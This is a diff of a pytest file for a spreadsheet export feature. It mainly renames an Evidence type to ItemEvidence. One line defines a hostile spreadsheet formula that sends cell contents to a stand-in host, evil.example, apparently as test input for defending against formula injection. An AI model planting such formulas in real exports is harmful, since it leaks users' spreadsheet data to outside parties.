@@ -14,8 +14,7 @@ import pytest
 from openpyxl import load_workbook
 
 from assistant.coverage import export
-from assistant.coverage.analysis import CoverageReport, ItemCompetency, ItemCoverage, Suggestion
-from assistant.matching.models import Evidence
+from assistant.coverage.analysis import CoverageReport, ItemCompetency, ItemCoverage, ItemEvidence, Suggestion
 
 COLUMNS = ("A.1", "A.4", "B.1", "C.2", "D")
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -23,8 +22,8 @@ BUDGET = "build and manage the annual budget"
 SURVEY = "design a short exit survey"
 
 
-def _ev(text: str, level: int, start: int = 0) -> Evidence:
-    return Evidence(start=start, end=start + len(text), text=text, level=level)
+def _ev(text: str, level: int, start: int = 0) -> ItemEvidence:
+    return ItemEvidence(start=start, end=start + len(text), text=text, level=level)
 
 
 def _comp(cid: str, name: str, level: int, *texts: str) -> ItemCompetency:
